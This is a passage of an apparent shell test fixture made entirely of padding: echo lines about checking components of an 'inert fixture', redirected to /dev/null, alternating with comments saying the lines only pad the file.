echo "step 02207: checking component 73 of the inert fixture" >/dev/null
# section 02208: nothing happens here, this line only pads the file
echo "step 02209: checking component 75 of the inert fixture" >/dev/null
echo "step 02210: checking component 76 of the inert fixture" >/dev/null
echo "step 02211: checking component 77 of the inert fixture" >/dev/null
# section 02212: nothing happens here, this line only pads the file
echo "step 02213: checking component 79 of the inert fixture" >/dev/null
echo "step 02214: checking component 80 of the inert fixture" >/dev/null
echo "step 02215: checking component 81 of the inert fixture" >/dev/null
# section 02216: nothing happens here, this line only pads the file
echo "step 02217: checking component 83 of the inert fixture" >/dev/null
echo "step 02218: checking component 84 of the inert fixture" >/dev/null
echo "step 02219: checking component 85 of the inert fixture" >/dev/null
# section 02220: nothing happens here, this line only pads the file
echo "step 02221: checking component 87 of the inert fixture" >/dev/null
echo "step 02222: checking component 88 of the inert fixture" >/dev/null
echo "step 02223: checking component 89 of the inert fixture" >/dev/null
# section 02224: nothing happens here, this line only pads the file
echo "step 02225: checking component 91 of the inert fixture" >/dev/null
echo "step 02226: checking component 92 of the inert fixture" >/dev/null
echo "step 02227: checking component 93 of the inert fixture" >/dev/null
# section 02228: nothing happens here, this line only pads the file
echo "step 02229: checking component 95 of the inert fixture" >/dev/null
echo "step 02230: checking component 96 of the inert fixture" >/dev/null
echo "step 02231: checking component 0 of the inert fixture" >/dev/null
# section 02232: nothing happens here, this line only pads the file
echo "step 02233: checking component 2 of the inert fixture" >/dev/null
echo "step 02234: checking component 3 of the inert fixture" >/dev/null
echo "step 02235: checking component 4 of the inert fixture" >/dev/null
# section 02236: nothing happens here, this line only pads the file
echo "step 02237: checking component 6 of the inert fixture" >/dev/null
echo "step 02238: checking component 7 of the inert fixture" >/dev/null
echo "step 02239: checking component 8 of the inert fixture" >/dev/null
# section 02240: nothing happens here, this line only pads the file
echo "step 02241: checking component 10 of the inert fixture" >/dev/null
echo "step 02242: checking component 11 of the inert fixture" >/dev/null
echo "step 02243: checking component 12 of the inert fixture" >/dev/null
# section 02244: nothing happens here, this line only pads the file
echo "step 02245: checking component 14 of the inert fixture" >/dev/null
echo "step 02246: checking component 15 of the inert fixture" >/dev/null
echo "step 02247: checking component 16 of the inert fixture" >/dev/null
# section 02248: nothing happens here, this line only pads the file
echo "step 02249: checking component 18 of the inert fixture" >/dev/null
echo "step 02250: checking component 19 of the inert fixture" >/dev/null
echo "step 02251: checking component 20 of the inert fixture" >/dev/null
# section 02252: nothing happens here, this line only pads the file
echo "step 02253: checking component 22 of the inert fixture" >/dev/null
echo "step 02254: checking component 23 of the inert fixture" >/dev/null
echo "step 02255: checking component 24 of the inert fixture" >/dev/null
# section 02256: nothing happens here, this line only pads the file
echo "step 02257: checking component 26 of the inert fixture" >/dev/null
echo "step 02258: checking component 27 of the inert fixture" >/dev/null
echo "step 02259: checking component 28 of the inert fixture" >/dev/null
# section 02260: nothing happens here, this line only pads the file
echo "step 02261: checking component 30 of the inert fixture" >/dev/null
echo "step 02262: checking component 31 of the inert fixture" >/dev/null
echo "step 02263: checking component 32 of the inert fixture" >/dev/null
# section 02264: nothing happens here, this line only pads the file
echo "step 02265: checking component 34 of the inert fixture" >/dev/null
echo "step 02266: checking component 35 of the inert fixture" >/dev/null
echo "step 02267: checking component 36 of the inert fixture" >/dev/null
# section 02268: nothing happens here, this line only pads the file
echo "step 02269: checking component 38 of the inert fixture" >/dev/null
echo "step 02270: checking component 39 of the inert fixture" >/dev/null
echo "step 02271: checking component 40 of the inert fixture" >/dev/null
# section 02272: nothing happens here, this line only pads the file
echo "step 02273: checking component 42 of the inert fixture" >/dev/null
echo "step 02274: checking component 43 of the inert fixture" >/dev/null
echo "step 02275: checking component 44 of the inert fixture" >/dev/null
# section 02276: nothing happens here, this line only pads the file
echo "step 02277: checking component 46 of the inert fixture" >/dev/null
echo "step 02278: checking component 47 of the inert fixture" >/dev/null
echo "step 02279: checking component 48 of the inert fixture" >/dev/null
# section 02280: nothing happens here, this line only pads the file
echo "step 02281: checking component 50 of the inert fixture" >/dev/null
echo "step 02282: checking component 51 of the inert fixture" >/dev/null
echo "step 02283: checking component 52 of the inert fixture" >/dev/null
# section 02284: nothing happens here, this line only pads the file
echo "step 02285: checking component 54 of the inert fixture" >/dev/null
echo "step 02286: checking component 55 of the inert fixture" >/dev/null
echo "step 02287: checking component 56 of the inert fixture" >/dev/null
# section 02288: nothing happens here, this line only pads the file
echo "step 02289: checking component 58 of the inert fixture" >/dev/null
echo "step 02290: checking component 59 of the inert fixture" >/dev/null
echo "step 02291: checking component 60 of the inert fixture" >/dev/null
# section 02292: nothing happens here, this line only pads the file
echo "step 02293: checking component 62 of the inert fixture" >/dev/null
echo "step 02294: checking component 63 of the inert fixture" >/dev/null
echo "step 02295: checking component 64 of the inert fixture" >/dev/null
# section 02296: nothing happens here, this line only pads the file
echo "step 02297: checking component 66 of the inert fixture" >/dev/null
echo "step 02298: checking component 67 of the inert fixture" >/dev/null
echo "step 02299: checking component 68 of the inert fixture" >/dev/null
# section 02300: nothing happens here, this line only pads the file
echo "step 02301: checking component 70 of the inert fixture" >/dev/null
echo "step 02302: checking component 71 of the inert fixture" >/dev/null
echo "step 02303: checking component 72 of the inert fixture" >/dev/null
# section 02304: nothing happens here, this line only pads the file
echo "step 02305: checking component 74 of the inert fixture" >/dev/null
echo "step 02306: checking component 75 of the inert fixture" >/dev/null
echo "step 02307: checking component 76 of the inert fixture" >/dev/null
# section 02308: nothing happens here, this line only pads the file
echo "step 02309: checking component 78 of the inert fixture" >/dev/null
echo "step 02310: checking component 79 of the inert fixture" >/dev/null
echo "step 02311: checking component 80 of the inert fixture" >/dev/null
# section 02312: nothing happens here, this line only pads the file
echo "step 02313: checking component 82 of the inert fixture" >/dev/null
echo "step 02314: checking component 83 of the inert fixture" >/dev/null
echo "step 02315: checking component 84 of the inert fixture" >/dev/null
# section 02316: nothing happens here, this line only pads the file
echo "step 02317: checking component 86 of the inert fixture" >/dev/null
echo "step 02318: checking component 87 of the inert fixture" >/dev/null
echo "step 02319: checking component 88 of the inert fixture" >/dev/null
# section 02320: nothing happens here, this line only pads the file
echo "step 02321: checking component 90 of the inert fixture" >/dev/null
echo "step 02322: checking component 91 of the inert fixture" >/dev/null
echo "step 02323: checking component 92 of the inert fixture" >/dev/null
# section 02324: nothing happens here, this line only pads the file
echo "step 02325: checking component 94 of the inert fixture" >/dev/null
echo "step 02326: checking component 95 of the inert fixture" >/dev/null
echo "step 02327: checking component 96 of the inert fixture" >/dev/null
# section 02328: nothing happens here, this line only pads the file
echo "step 02329: checking component 1 of the inert fixture" >/dev/null
echo "step 02330: checking component 2 of the inert fixture" >/dev/null
echo "step 02331: checking component 3 of the inert fixture" >/dev/null
# section 02332: nothing happens here, this line only pads the file
echo "step 02333: checking component 5 of the inert fixture" >/dev/null
echo "step 02334: checking component 6 of the inert fixture" >/dev/null
echo "step 02335: checking component 7 of the inert fixture" >/dev/null
# section 02336: nothing happens here, this line only pads the file
echo "step 02337: checking component 9 of the inert fixture" >/dev/null
echo "step 02338: checking component 10 of the inert fixture" >/dev/null
echo "step 02339: checking component 11 of the inert fixture" >/dev/null
# section 02340: nothing happens here, this line only pads the file
echo "step 02341: checking component 13 of the inert fixture" >/dev/null
echo "step 02342: checking component 14 of the inert fixture" >/dev/null
echo "step 02343: checking component 15 of the inert fixture" >/dev/null
# section 02344: nothing happens here, this line only pads the file
echo "step 02345: checking component 17 of the inert fixture" >/dev/null
echo "step 02346: checking component 18 of the inert fixture" >/dev/null
echo "step 02347: checking component 19 of the inert fixture" >/dev/null
# section 02348: nothing happens here, this line only pads the file
echo "step 02349: checking component 21 of the inert fixture" >/dev/null
echo "step 02350: checking component 22 of the inert fixture" >/dev/null
echo "step 02351: checking component 23 of the inert fixture" >/dev/null
# section 02352: nothing happens here, this line only pads the file
echo "step 02353: checking component 25 of the inert fixture" >/dev/null
echo "step 02354: checking component 26 of the inert fixture" >/dev/null
echo "step 02355: checking component 27 of the inert fixture" >/dev/null
# section 02356: nothing happens here, this line only pads the file
echo "step 02357: checking component 29 of the inert fixture" >/dev/null
echo "step 02358: checking component 30 of the inert fixture" >/dev/null
echo "step 02359: checking component 31 of the inert fixture" >/dev/null
# section 02360: nothing happens here, this line only pads the file
echo "step 02361: checking component 33 of the inert fixture" >/dev/null
echo "step 02362: checking component 34 of the inert fixture" >/dev/null
echo "step 02363: checking component 35 of the inert fixture" >/dev/null
# section 02364: nothing happens here, this line only pads the file
echo "step 02365: checking component 37 of the inert fixture" >/dev/null
echo "step 02366: checking component 38 of the inert fixture" >/dev/null
echo "step 02367: checking component 39 of the inert fixture" >/dev/null
# section 02368: nothing happens here, this line only pads the file
echo "step 02369: checking component 41 of the inert fixture" >/dev/null
echo "step 02370: checking component 42 of the inert fixture" >/dev/null
echo "step 02371: checking component 43 of the inert fixture" >/dev/null
# section 02372: nothing happens here, this line only pads the file
echo "step 02373: checking component 45 of the inert fixture" >/dev/null
echo "step 02374: checking component 46 of the inert fixture" >/dev/null
echo "step 02375: checking component 47 of the inert fixture" >/dev/null
# section 02376: nothing happens here, this line only pads the file
echo "step 02377: checking component 49 of the inert fixture" >/dev/null
echo "step 02378: checking component 50 of the inert fixture" >/dev/null
echo "step 02379: checking component 51 of the inert fixture" >/dev/null
# section 02380: nothing happens here, this line only pads the file
echo "step 02381: checking component 53 of the inert fixture" >/dev/null
echo "step 02382: checking component 54 of the inert fixture" >/dev/null
echo "step 02383: checking component 55 of the inert fixture" >/dev/null
# section 02384: nothing happens here, this line only pads the file
echo "step 02385: checking component 57 of the inert fixture" >/dev/null
echo "step 02386: checking component 58 of the inert fixture" >/dev/null
echo "step 02387: checking component 59 of the inert fixture" >/dev/null
# section 02388: nothing happens here, this line only pads the file
echo "step 02389: checking component 61 of the inert fixture" >/dev/null
echo "step 02390: checking component 62 of the inert fixture" >/dev/null
echo "step 02391: checking component 63 of the inert fixture" >/dev/null
# section 02392: nothing happens here, this line only pads the file
echo "step 02393: checking component 65 of the inert fixture" >/dev/null
echo "step 02394: checking component 66 of the inert fixture" >/dev/null
echo "step 02395: checking component 67 of the inert fixture" >/dev/null
# section 02396: nothing happens here, this line only pads the file
echo "step 02397: checking component 69 of the inert fixture" >/dev/null
echo "step 02398: checking component 70 of the inert fixture" >/dev/null
echo "step 02399: checking component 71 of the inert fixture" >/dev/null
# section 02400: nothing happens here, this line only pads the file
echo "step 02401: checking component 73 of the inert fixture" >/dev/null
echo "step 02402: checking component 74 of the inert fixture" >/dev/null
echo "step 02403: checking component 75 of the inert fixture" >/dev/null
# section 02404: nothing happens here, this line only pads the file
echo "step 02405: checking component 77 of the inert fixture" >/dev/null
echo "step 02406: checking component 78 of the inert fixture" >/dev/null
echo "step 02407: checking component 79 of the inert fixture" >/dev/null
# section 02408: nothing happens here, this line only pads the file
echo "step 02409: checking component 81 of the inert fixture" >/dev/null
echo "step 02410: checking component 82 of the inert fixture" >/dev/null
echo "step 02411: checking component 83 of the inert fixture" >/dev/null
# section 02412: nothing happens here, this line only pads the file
echo "step 02413: checking component 85 of the inert fixture" >/dev/null
echo "step 02414: checking component 86 of the inert fixture" >/dev/null
echo "step 02415: checking component 87 of the inert fixture" >/dev/null
# section 02416: nothing happens here, this line only pads the file
echo "step 02417: checking component 89 of the inert fixture" >/dev/null
echo "step 02418: checking component 90 of the inert fixture" >/dev/null
echo "step 02419: checking component 91 of the inert fixture" >/dev/null
# section 02420: nothing happens here, this line only pads the file
echo "step 02421: checking component 93 of the inert fixture" >/dev/null
echo "step 02422: checking component 94 of the inert fixture" >/dev/null
echo "step 02423: checking component 95 of the inert fixture" >/dev/null
# section 02424: nothing happens here, this line only pads the file
echo "step 02425: checking component 0 of the inert fixture" >/dev/null
echo "step 02426: checking component 1 of the inert fixture" >/dev/null
echo "step 02427: checking component 2 of the inert fixture" >/dev/null
# section 02428: nothing happens here, this line only pads the file
echo "step 02429: checking component 4 of the inert fixture" >/dev/null
echo "step 02430: checking component 5 of the inert fixture" >/dev/null
echo "step 02431: checking component 6 of the inert fixture" >/dev/null
# section 02432: nothing happens here, this line only pads the file
echo "step 02433: checking component 8 of the inert fixture" >/dev/null
echo "step 02434: checking component 9 of the inert fixture" >/dev/null
echo "step 02435: checking component 10 of the inert fixture" >/dev/null
# section 02436: nothing happens here, this line only pads the file
echo "step 02437: checking component 12 of the inert fixture" >/dev/null
echo "step 02438: checking component 13 of the inert fixture" >/dev/null
echo "step 02439: checking component 14 of the inert fixture" >/dev/null
# section 02440: nothing happens here, this line only pads the file
echo "step 02441: checking component 16 of the inert fixture" >/dev/null
echo "step 02442: checking component 17 of the inert fixture" >/dev/null
echo "step 02443: checking component 18 of the inert fixture" >/dev/null
# section 02444: nothing happens here, this line only pads the file
echo "step 02445: checking component 20 of the inert fixture" >/dev/null
echo "step 02446: checking component 21 of the inert fixture" >/dev/null
echo "step 02447: checking component 22 of the inert fixture" >/dev/null
# section 02448: nothing happens here, this line only pads the file
echo "step 02449: checking component 24 of the inert fixture" >/dev/null
echo "step 02450: checking component 25 of the inert fixture" >/dev/null
echo "step 02451: checking component 26 of the inert fixture" >/dev/null
# section 02452: nothing happens here, this line only pads the file
echo "step 02453: checking component 28 of the inert fixture" >/dev/null
echo "step 02454: checking component 29 of the inert fixture" >/dev/null
echo "step 02455: checking component 30 of the inert fixture" >/dev/null
# section 02456: nothing happens here, this line only pads the file
echo "step 02457: checking component 32 of the inert fixture" >/dev/null
echo "step 02458: checking component 33 of the inert fixture" >/dev/null
echo "step 02459: checking component 34 of the inert fixture" >/dev/null
# section 02460: nothing happens here, this line only pads the file
echo "step 02461: checking component 36 of the inert fixture" >/dev/null
echo "step 02462: checking component 37 of the inert fixture" >/dev/null
echo "step 02463: checking component 38 of the inert fixture" >/dev/null
# section 02464: nothing happens here, this line only pads the file
echo "step 02465: checking component 40 of the inert fixture" >/dev/null
echo "step 02466: checking component 41 of the inert fixture" >/dev/null
echo "step 02467: checking component 42 of the inert fixture" >/dev/null
# section 02468: nothing happens here, this line only pads the file
echo "step 02469: checking component 44 of the inert fixture" >/dev/null
echo "step 02470: checking component 45 of the inert fixture" >/dev/null
echo "step 02471: checking component 46 of the inert fixture" >/dev/null
# section 02472: nothing happens here, this line only pads the file
echo "step 02473: checking component 48 of the inert fixture" >/dev/null
echo "step 02474: checking component 49 of the inert fixture" >/dev/null
echo "step 02475: checking component 50 of the inert fixture" >/dev/null
# section 02476: nothing happens here, this line only pads the file
echo "step 02477: checking component 52 of the inert fixture" >/dev/null
echo "step 02478: checking component 53 of the inert fixture" >/dev/null
echo "step 02479: checking component 54 of the inert fixture" >/dev/null
# section 02480: nothing happens here, this line only pads the file
echo "step 02481: checking component 56 of the inert fixture" >/dev/null
echo "step 02482: checking component 57 of the inert fixture" >/dev/null
echo "step 02483: checking component 58 of the inert fixture" >/dev/null
# section 02484: nothing happens here, this line only pads the file
echo "step 02485: checking component 60 of the inert fixture" >/dev/null
echo "step 02486: checking component 61 of the inert fixture" >/dev/null
echo "step 02487: checking component 62 of the inert fixture" >/dev/null
# section 02488: nothing happens here, this line only pads the file
echo "step 02489: checking component 64 of the inert fixture" >/dev/null
echo "step 02490: checking component 65 of the inert fixture" >/dev/null
echo "step 02491: checking component 66 of the inert fixture" >/dev/null
# section 02492: nothing happens here, this line only pads the file
echo "step 02493: checking component 68 of the inert fixture" >/dev/null
echo "step 02494: checking component 69 of the inert fixture" >/dev/null
echo "step 02495: checking component 70 of the inert fixture" >/dev/null
# section 02496: nothing happens here, this line only pads the file
echo "step 02497: checking component 72 of the inert fixture" >/dev/null
echo "step 02498: checking component 73 of the inert fixture" >/dev/null
echo "step 02499: checking component 74 of the inert fixture" >/dev/null
# section 02500: nothing happens here, this line only pads the file
echo "step 02501: checking component 76 of the inert fixture" >/dev/null
echo "step 02502: checking component 77 of the inert fixture" >/dev/null
echo "step 02503: checking component 78 of the inert fixture" >/dev/null
# section 02504: nothing happens here, this line only pads the file
echo "step 02505: checking component 80 of the inert fixture" >/dev/null
echo "step 02506: checking component 81 of the inert fixture" >/dev/null
echo "step 02507: checking component 82 of the inert fixture" >/dev/null
# section 02508: nothing happens here, this line only pads the file
echo "step 02509: checking component 84 of the inert fixture" >/dev/null
echo "step 02510: checking component 85 of the inert fixture" >/dev/null
echo "step 02511: checking component 86 of the inert fixture" >/dev/null
# section 02512: nothing happens here, this line only pads the file
echo "step 02513: checking component 88 of the inert fixture" >/dev/null
echo "step 02514: checking component 89 of the inert fixture" >/dev/null
echo "step 02515: checking component 90 of the inert fixture" >/dev/null
# section 02516: nothing happens here, this line only pads the file
echo "step 02517: checking component 92 of the inert fixture" >/dev/null
echo "step 02518: checking component 93 of the inert fixture" >/dev/null
echo "step 02519: checking component 94 of the inert fixture" >/dev/null
# section 02520: nothing happens here, this line only pads the file
echo "step 02521: checking component 96 of the inert fixture" >/dev/null
echo "step 02522: checking component 0 of the inert fixture" >/dev/null
echo "step 02523: checking component 1 of the inert fixture" >/dev/null
# section 02524: nothing happens here, this line only pads the file
echo "step 02525: checking component 3 of the inert fixture" >/dev/null
echo "step 02526: checking component 4 of the inert fixture" >/dev/null
echo "step 02527: checking component 5 of the inert fixture" >/dev/null
# section 02528: nothing happens here, this line only pads the file
echo "step 02529: checking component 7 of the inert fixture" >/dev/null
echo "step 02530: checking component 8 of the inert fixture" >/dev/null
echo "step 02531: checking component 9 of the inert fixture" >/dev/null
# section 02532: nothing happens here, this line only pads the file
echo "step 02533: checking component 11 of the inert fixture" >/dev/null
echo "step 02534: checking component 12 of the inert fixture" >/dev/null
echo "step 02535: checking component 13 of the inert fixture" >/dev/null
# section 02536: nothing happens here, this line only pads the file
echo "step 02537: checking component 15 of the inert fixture" >/dev/null
echo "step 02538: checking component 16 of the inert fixture" >/dev/null
echo "step 02539: checking component 17 of the inert fixture" >/dev/null
# section 02540: nothing happens here, this line only pads the file
echo "step 02541: checking component 19 of the inert fixture" >/dev/null
echo "step 02542: checking component 20 of the inert fixture" >/dev/null
echo "step 02543: checking component 21 of the inert fixture" >/dev/null
# section 02544: nothing happens here, this line only pads the file
echo "step 02545: checking component 23 of the inert fixture" >/dev/null
echo "step 02546: checking component 24 of the inert fixture" >/dev/null
echo "step 02547: checking component 25 of the inert fixture" >/dev/null
# section 02548: nothing happens here, this line only pads the file
echo "step 02549: checking component 27 of the inert fixture" >/dev/null
echo "step 02550: checking component 28 of the inert fixture" >/dev/null
echo "step 02551: checking component 29 of the inert fixture" >/dev/null
# section 02552: nothing happens here, this line only pads the file
echo "step 02553: checking component 31 of the inert fixture" >/dev/null
echo "step 02554: checking component 32 of the inert fixture" >/dev/null
echo "step 02555: checking component 33 of the inert fixture" >/dev/null
# section 02556: nothing happens here, this line only pads the file
echo "step 02557: checking component 35 of the inert fixture" >/dev/null
echo "step 02558: checking component 36 of the inert fixture" >/dev/null
echo "step 02559: checking component 37 of the inert fixture" >/dev/null
# section 02560: nothing happens here, this line only pads the file
echo "step 02561: checking component 39 of the inert fixture" >/dev/null
echo "step 02562: checking component 40 of the inert fixture" >/dev/null
echo "step 02563: checking component 41 of the inert fixture" >/dev/null
# section 02564: nothing happens here, this line only pads the file
echo "step 02565: checking component 43 of the inert fixture" >/dev/null
echo "step 02566: checking component 44 of the inert fixture" >/dev/null
echo "step 02567: checking component 45 of the inert fixture" >/dev/null
# section 02568: nothing happens here, this line only pads the file
echo "step 02569: checking component 47 of the inert fixture" >/dev/null
echo "step 02570: checking component 48 of the inert fixture" >/dev/null
echo "step 02571: checking component 49 of the inert fixture" >/dev/null
# section 02572: nothing happens here, this line only pads the file
echo "step 02573: checking component 51 of the inert fixture" >/dev/null
echo "step 02574: checking component 52 of the inert fixture" >/dev/null
echo "step 02575: checking component 53 of the inert fixture" >/dev/null
# section 02576: nothing happens here, this line only pads the file
echo "step 02577: checking component 55 of the inert fixture" >/dev/null
echo "step 02578: checking component 56 of the inert fixture" >/dev/null
echo "step 02579: checking component 57 of the inert fixture" >/dev/null
# section 02580: nothing happens here, this line only pads the file
echo "step 02581: checking component 59 of the inert fixture" >/dev/null
echo "step 02582: checking component 60 of the inert fixture" >/dev/null
echo "step 02583: checking component 61 of the inert fixture" >/dev/null
# section 02584: nothing happens here, this line only pads the file
echo "step 02585: checking component 63 of the inert fixture" >/dev/null
echo "step 02586: checking component 64 of the inert fixture" >/dev/null
echo "step 02587: checking component 65 of the inert fixture" >/dev/null
# section 02588: nothing happens here, this line only pads the file
echo "step 02589: checking component 67 of the inert fixture" >/dev/null
echo "step 02590: checking component 68 of the inert fixture" >/dev/null
echo "step 02591: checking component 69 of the inert fixture" >/dev/null
# section 02592: nothing happens here, this line only pads the file
echo "step 02593: checking component 71 of the inert fixture" >/dev/null
echo "step 02594: checking component 72 of the inert fixture" >/dev/null
echo "step 02595: checking component 73 of the inert fixture" >/dev/null
# section 02596: nothing happens here, this line only pads the file
echo "step 02597: checking component 75 of the inert fixture" >/dev/null
echo "step 02598: checking component 76 of the inert fixture" >/dev/null
echo "step 02599: checking component 77 of the inert fixture" >/dev/null
# section 02600: nothing happens here, this line only pads the file
echo "step 02601: checking component 79 of the inert fixture" >/dev/null
echo "step 02602: checking component 80 of the inert fixture" >/dev/null
echo "step 02603: checking component 81 of the inert fixture" >/dev/null
# section 02604: nothing happens here, this line only pads the file
echo "step 02605: checking component 83 of the inert fixture" >/dev/null
echo "step 02606: checking component 84 of the inert fixture" >/dev/null
echo "step 02607: checking component 85 of the inert fixture" >/dev/null
# section 02608: nothing happens here, this line only pads the file
echo "step 02609: checking component 87 of the inert fixture" >/dev/null
echo "step 02610: checking component 88 of the inert fixture" >/dev/null
echo "step 02611: checking component 89 of the inert fixture" >/dev/null
# section 02612: nothing happens here, this line only pads the file
echo "step 02613: checking component 91 of the inert fixture" >/dev/null
echo "step 02614: checking component 92 of the inert fixture" >/dev/null
echo "step 02615: checking component 93 of the inert fixture" >/dev/null
# section 02616: nothing happens here, this line only pads the file
echo "step 02617: checking component 95 of the inert fixture" >/dev/null
echo "step 02618: checking component 96 of the inert fixture" >/dev/null
echo "step 02619: checking component 0 of the inert fixture" >/dev/null
# section 02620: nothing happens here, this line only pads the file
echo "step 02621: checking component 2 of the inert fixture" >/dev/null
echo "step 02622: checking component 3 of the inert fixture" >/dev/null
echo "step 02623: checking component 4 of the inert fixture" >/dev/null
# section 02624: nothing happens here, this line only pads the file
echo "step 02625: checking component 6 of the inert fixture" >/dev/null
echo "step 02626: checking component 7 of the inert fixture" >/dev/null
echo "step 02627: checking component 8 of the inert fixture" >/dev/null
# section 02628: nothing happens here, this line only pads the file
echo "step 02629: checking component 10 of the inert fixture" >/dev/null
echo "step 02630: checking component 11 of the inert fixture" >/dev/null
echo "step 02631: checking component 12 of the inert fixture" >/dev/null
# section 02632: nothing happens here, this line only pads the file
echo "step 02633: checking component 14 of the inert fixture" >/dev/null
echo "step 02634: checking component 15 of the inert fixture" >/dev/null
echo "step 02635: checking component 16 of the inert fixture" >/dev/null
# section 02636: nothing happens here, this line only pads the file
echo "step 02637: checking component 18 of the inert fixture" >/dev/null
echo "step 02638: checking component 19 of the inert fixture" >/dev/null
echo "step 02639: checking component 20 of the inert fixture" >/dev/null
# section 02640: nothing happens here, this line only pads the file
echo "step 02641: checking component 22 of the inert fixture" >/dev/null
echo "step 02642: checking component 23 of the inert fixture" >/dev/null
echo "step 02643: checking component 24 of the inert fixture" >/dev/null
# section 02644: nothing happens here, this line only pads the file
echo "step 02645: checking component 26 of the inert fixture" >/dev/null
echo "step 02646: checking component 27 of the inert fixture" >/dev/null
echo "step 02647: checking component 28 of the inert fixture" >/dev/null
# section 02648: nothing happens here, this line only pads the file
echo "step 02649: checking component 30 of the inert fixture" >/dev/null
echo "step 02650: checking component 31 of the inert fixture" >/dev/null
echo "step 02651: checking component 32 of the inert fixture" >/dev/null
# section 02652: nothing happens here, this line only pads the file
echo "step 02653: checking component 34 of the inert fixture" >/dev/null
echo "step 02654: checking component 35 of the inert fixture" >/dev/null
echo "step 02655: checking component 36 of the inert fixture" >/dev/null
# section 02656: nothing happens here, this line only pads the file
echo "step 02657: checking component 38 of the inert fixture" >/dev/null
echo "step 02658: checking component 39 of the inert fixture" >/dev/null
echo "step 02659: checking component 40 of the inert fixture" >/dev/null
# section 02660: nothing happens here, this line only pads the file
echo "step 02661: checking component 42 of the inert fixture" >/dev/null
echo "step 02662: checking component 43 of the inert fixture" >/dev/null
echo "step 02663: checking component 44 of the inert fixture" >/dev/null
# section 02664: nothing happens here, this line only pads the file
echo "step 02665: checking component 46 of the inert fixture" >/dev/null
echo "step 02666: checking component 47 of the inert fixture" >/dev/null
echo "step 02667: checking component 48 of the inert fixture" >/dev/null
# section 02668: nothing happens here, this line only pads the file
echo "step 02669: checking component 50 of the inert fixture" >/dev/null
echo "step 02670: checking component 51 of the inert fixture" >/dev/null
echo "step 02671: checking component 52 of the inert fixture" >/dev/null
# section 02672: nothing happens here, this line only pads the file
echo "step 02673: checking component 54 of the inert fixture" >/dev/null
echo "step 02674: checking component 55 of the inert fixture" >/dev/null
echo "step 02675: checking component 56 of the inert fixture" >/dev/null
# section 02676: nothing happens here, this line only pads the file
echo "step 02677: checking component 58 of the inert fixture" >/dev/null
echo "step 02678: checking component 59 of the inert fixture" >/dev/null
echo "step 02679: checking component 60 of the inert fixture" >/dev/null
# section 02680: nothing happens here, this line only pads the file
echo "step 02681: checking component 62 of the inert fixture" >/dev/null
echo "step 02682: checking component 63 of the inert fixture" >/dev/null
echo "step 02683: checking component 64 of the inert fixture" >/dev/null
# section 02684: nothing happens here, this line only pads the file
echo "step 02685: checking component 66 of the inert fixture" >/dev/null
echo "step 02686: checking component 67 of the inert fixture" >/dev/null
echo "step 02687: checking component 68 of the inert fixture" >/dev/null
# section 02688: nothing happens here, this line only pads the file
echo "step 02689: checking component 70 of the inert fixture" >/dev/null
echo "step 02690: checking component 71 of the inert fixture" >/dev/null
echo "step 02691: checking component 72 of the inert fixture" >/dev/null
# section 02692: nothing happens here, this line only pads the file
echo "step 02693: checking component 74 of the inert fixture" >/dev/null
echo "step 02694: checking component 75 of the inert fixture" >/dev/null
echo "step 02695: checking component 76 of the inert fixture" >/dev/null
# section 02696: nothing happens here, this line only pads the file
echo "step 02697: checking component 78 of the inert fixture" >/dev/null
echo "step 02698: checking component 79 of the inert fixture" >/dev/null
echo "step 02699: checking component 80 of the inert fixture" >/dev/null
# section 02700: nothing happens here, this line only pads the file
echo "step 02701: checking component 82 of the inert fixture" >/dev/null
echo "step 02702: checking component 83 of the inert fixture" >/dev/null
echo "step 02703: checking component 84 of the inert fixture" >/dev/null
# section 02704: nothing happens here, this line only pads the file
echo "step 02705: checking component 86 of the inert fixture" >/dev/null
echo "step 02706: checking component 87 of the inert fixture" >/dev/null
echo "step 02707: checking component 88 of the inert fixture" >/dev/null
# section 02708: nothing happens here, this line only pads the file
echo "step 02709: checking component 90 of the inert fixture" >/dev/null
echo "step 02710: checking component 91 of the inert fixture" >/dev/null
echo "step 02711: checking component 92 of the inert fixture" >/dev/null
# section 02712: nothing happens here, this line only pads the file
echo "step 02713: checking component 94 of the inert fixture" >/dev/null
echo "step 02714: checking component 95 of the inert fixture" >/dev/null
echo "step 02715: checking component 96 of the inert fixture" >/dev/null
# section 02716: nothing happens here, this line only pads the file
echo "step 02717: checking component 1 of the inert fixture" >/dev/null
echo "step 02718: checking component 2 of the inert fixture" >/dev/null
echo "step 02719: checking component 3 of the inert fixture" >/dev/null
# section 02720: nothing happens here, this line only pads the file
echo "step 02721: checking component 5 of the inert fixture" >/dev/null
echo "step 02722: checking component 6 of the inert fixture" >/dev/null
echo "step 02723: checking component 7 of the inert fixture" >/dev/null
# section 02724: nothing happens here, this line only pads the file
echo "step 02725: checking component 9 of the inert fixture" >/dev/null
echo "step 02726: checking component 10 of the inert fixture" >/dev/null
echo "step 02727: checking component 11 of the inert fixture" >/dev/null
# section 02728: nothing happens here, this line only pads the file
echo "step 02729: checking component 13 of the inert fixture" >/dev/null
echo "step 02730: checking component 14 of the inert fixture" >/dev/null
echo "step 02731: checking component 15 of the inert fixture" >/dev/null
# section 02732: nothing happens here, this line only pads the file
echo "step 02733: checking component 17 of the inert fixture" >/dev/null
echo "step 02734: checking component 18 of the inert fixture" >/dev/null
echo "step 02735: checking component 19 of the inert fixture" >/dev/null
# section 02736: nothing happens here, this line only pads the file
echo "step 02737: checking component 21 of the inert fixture" >/dev/null
echo "step 02738: checking component 22 of the inert fixture" >/dev/null
echo "step 02739: checking component 23 of the inert fixture" >/dev/null
# section 02740: nothing happens here, this line only pads the file
echo "step 02741: checking component 25 of the inert fixture" >/dev/null
echo "step 02742: checking component 26 of the inert fixture" >/dev/null
echo "step 02743: checking component 27 of the inert fixture" >/dev/null
# section 02744: nothing happens here, this line only pads the file
echo "step 02745: checking component 29 of the inert fixture" >/dev/null
echo "step 02746: checking component 30 of the inert fixture" >/dev/null
echo "step 02747: checking component 31 of the inert fixture" >/dev/null
# section 02748: nothing happens here, this line only pads the file
echo "step 02749: checking component 33 of the inert fixture" >/dev/null
echo "step 02750: checking component 34 of the inert fixture" >/dev/null
echo "step 02751: checking component 35 of the inert fixture" >/dev/null
# section 02752: nothing happens here, this line only pads the file
echo "step 02753: checking component 37 of the inert fixture" >/dev/null
echo "step 02754: checking component 38 of the inert fixture" >/dev/null
echo "step 02755: checking component 39 of the inert fixture" >/dev/null
# section 02756: nothing happens here, this line only pads the file
echo "step 02757: checking component 41 of the inert fixture" >/dev/null
echo "step 02758: checking component 42 of the inert fixture" >/dev/null
echo "step 02759: checking component 43 of the inert fixture" >/dev/null
# section 02760: nothing happens here, this line only pads the file
echo "step 02761: checking component 45 of the inert fixture" >/dev/null
